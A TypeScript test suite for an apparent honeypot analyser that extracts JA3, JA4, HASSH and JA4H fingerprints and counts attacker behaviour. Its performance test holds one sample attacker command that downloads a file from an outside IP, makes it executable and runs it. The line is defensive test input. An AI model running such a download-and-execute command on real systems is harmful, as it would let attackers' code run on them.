import { describe, expect, it } from 'vitest'
import { SERVICE_SLUGS } from '../../src/catalog/services.ts'
import { analyseEvent, INTEL_RULE_VERSIONS } from '../../src/intel/analyse.ts'
import { addBehaviour, SHELL_SERVICES } from '../../src/intel/behaviour.ts'
import { FINGERPRINT_SOURCES } from '../../src/intel/fingerprints.ts'
import { IOC_SOURCES } from '../../src/intel/rules/ioc.ts'
import { TECHNIQUE_RULES } from '../../src/intel/rules/techniques.ts'
import { TOOL_RULES } from '../../src/intel/rules/tools.ts'
import type { BehaviourCounters } from '../../src/intel/types.ts'
import { event, httpRequest, shellCommand } from './events.ts'

describe('analyseEvent: fingerprints', () => {
  it('a TLS ClientHello event yields JA3 (hash, raw string as detail) and JA4 (with its raw form)', () => {
    const { fingerprints } = analyseEvent(
      event('tls_client_hello', 'https', {
        ja3: '771,4865-4866,0-23-65281,29-23,0',
        ja3_hash: 'e7d705a3286e19ea42f587b344ee6865',
        ja4: 't13d1516h2_8daaf6152771_b186095e22b6',
        ja4_r: 't13d1516h2_002f,0035_0005,000a',
        tls_sni: 'decoy.example',
      }),
    )
    expect(fingerprints).toEqual([
      { kind: 'ja3', value: 'e7d705a3286e19ea42f587b344ee6865', detail: '771,4865-4866,0-23-65281,29-23,0' },
      {
        kind: 'ja4',
        value: 't13d1516h2_8daaf6152771_b186095e22b6',
        detail: 't13d1516h2_002f,0035_0005,000a',
      },
    ])
  })

  it('an SSH KEXINIT event yields HASSH with its algorithms and the client version', () => {
    const { fingerprints } = analyseEvent(
      event('ssh_client_kexinit', 'ssh', {
        client_version: 'SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3',
        hassh: 'ec7378c1a92f5a8dde7e8b7a1ddf33d1',
        hassh_algorithms: 'curve25519-sha256;aes128-ctr;hmac-sha2-256;none',
      }),
    )
    expect(fingerprints).toEqual([
      {
        kind: 'hassh',
        value: 'ec7378c1a92f5a8dde7e8b7a1ddf33d1',
        detail: 'curve25519-sha256;aes128-ctr;hmac-sha2-256;none',
      },
      { kind: 'ssh_client', value: 'SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3', detail: '' },
    ])
  })

  it('an HTTP request yields JA4H with the header order, and the user agent', () => {
    const { fingerprints } = analyseEvent(
      httpRequest({
        user_agent: 'curl/7.88.1',
        ja4h: 'ge11nn030000_a0b5c7f9d1e2_000000000000_000000000000',
        header_order: 'host,user-agent,accept',
      }),
    )
    expect(fingerprints).toEqual([
      {
        kind: 'ja4h',
        value: 'ge11nn030000_a0b5c7f9d1e2_000000000000_000000000000',
        detail: 'host,user-agent,accept',
      },
      { kind: 'user_agent', value: 'curl/7.88.1', detail: '' },
    ])
  })

  it('a VNC client version is no SSH client; null and absent fields yield nothing', () => {
    expect(
      analyseEvent(event('request', 'vnc', { kind: 'version', client_version: 'RFB 003.008' })).fingerprints,
    ).toEqual([])
    expect(analyseEvent(httpRequest({ user_agent: null })).fingerprints).toEqual([])
  })

  it('fingerprint values and details are capped', () => {
    const { fingerprints } = analyseEvent(
      httpRequest({ user_agent: 'A'.repeat(10_000), ja4h: 'x', header_order: 'h,'.repeat(5000) }),
    )
    for (const fingerprint of fingerprints) {
      expect(fingerprint.value.length).toBeLessThanOrEqual(512)
      expect(fingerprint.detail.length).toBeLessThanOrEqual(2048)
    }
  })
})

describe('analyseEvent: behaviour counters', () => {
  const cases: [string, ReturnType<typeof event>, BehaviourCounters][] = [
    ['connect', event('connect', 'ssh', { local_port: 22 }), { connections: 1 }],
    ['disconnect', event('disconnect', 'ssh', { duration_ms: 5 }), {}],
    [
      'failed login',
      event('auth_attempt', 'ssh', { username: 'root', success: false }),
      { authAttempts: 1, authFailures: 1 },
    ],
    [
      'successful login',
      event('auth_attempt', 'ssh', { username: 'root', success: true }),
      { authAttempts: 1 },
    ],
    ['typed command', shellCommand('ls'), { interactiveCommands: 1 }],
    ['telnet command', shellCommand('ls', 'telnet'), { interactiveCommands: 1 }],
    ['ssh exec', shellCommand('uname -a', 'ssh-exec'), { execCommands: 1 }],
    ['protocol verb', event('command', 'redis', { cmd: 'INFO', args: '[]' }), { requests: 1 }],
    ['HTTP request', httpRequest({}), { requests: 1 }],
    ['probe', event('scan', 'http', { reason: 'malformed_http' }), { probePayloads: 1 }],
    ['terminal', event('tty_start', 'ssh', { sid: 's1' }), { interactiveSessions: 1 }],
    ['download', event('download', 'ssh', { url: 'http://x/y' }), { downloads: 1 }],
    ['upload', event('upload', 'ssh', { name: 'y', bytes: 1 }), { downloads: 1 }],
  ]
  for (const [name, input, expected] of cases) {
    it(`${name} → ${JSON.stringify(expected)}`, () => {
      expect(analyseEvent(input).behaviour).toEqual(expected)
    })
  }

  it('addBehaviour sums counters per key', () => {
    const total: BehaviourCounters = {}
    addBehaviour(total, { connections: 1, authAttempts: 2 })
    addBehaviour(total, { authAttempts: 3, authFailures: 1 })
    expect(total).toEqual({ connections: 1, authAttempts: 5, authFailures: 1 })
  })
})

describe('analyseEvent: the whole', () => {
  it('a plain connect event finds nothing but a connection', () => {
    expect(analyseEvent(event('connect', 'ssh', { local_port: 22 }))).toEqual({
      fingerprints: [],
      tools: [],
      techniques: [],
      iocs: [],
      behaviour: { connections: 1 },
    })
  })

  it('rule versions are stated for every rule set', () => {
    for (const version of Object.values(INTEL_RULE_VERSIONS)) expect(version).toMatch(/^\d+\.\d+\.\d+$/)
  })

  it('hostile field names and values never throw', () => {
    const hostile = event('request', 'http', {
      __proto__: 'x',
      constructor: 'y',
      path: '%E0%A4%A',
      body: '%',
      headers: '{',
      user_agent: 12,
    })
    expect(() => analyseEvent(hostile)).not.toThrow()
  })

  it('stays cheap: a mixed stream of 20k events is analysed well within a generous bound', () => {
    // Speed proper is measured by the bench; this only catches an accidental blow-up (a catastrophic
    // regex, per-event compilation) on a loaded 2-core machine.
    const stream = [
      event('connect', 'ssh', { local_port: 22 }),
      event('disconnect', 'ssh', { duration_ms: 3 }),
      event('auth_attempt', 'ssh', {
        username: 'root',
        method: 'password',
        client_version: 'libssh_0.10.6',
        success: false,
      }),
      shellCommand('cd /tmp; wget http://198.51.100.4/x -O y; chmod +x y; ./y'),
      httpRequest({ path: `/?q=${'a'.repeat(2000)}`, user_agent: 'Mozilla/5.0', body: 'x'.repeat(4000) }),
    ]
    const started = performance.now()
    for (let i = 0; i < 20_000; i++) analyseEvent(stream[i % stream.length] as ReturnType<typeof event>)
    expect(performance.now() - started).toBeLessThan(20_000)
  })
})

describe('rule sets name real services', () => {
  it('every service a tool, technique or indicator rule is limited to is a catalogue slug', () => {
    const slugs = new Set<string>(SERVICE_SLUGS)
    const named = [
      ...TOOL_RULES.flatMap((rule) => rule.services ?? []),
      ...TECHNIQUE_RULES.flatMap((rule) => rule.services ?? []),
      ...IOC_SOURCES.flatMap((source) => source.services ?? []),
      ...FINGERPRINT_SOURCES.flatMap((source) => source.services ?? []),
      ...SHELL_SERVICES,
    ]
    expect(named.length).toBeGreaterThan(0)
    for (const service of named) expect(slugs.has(service), service).toBe(true)
  })
})
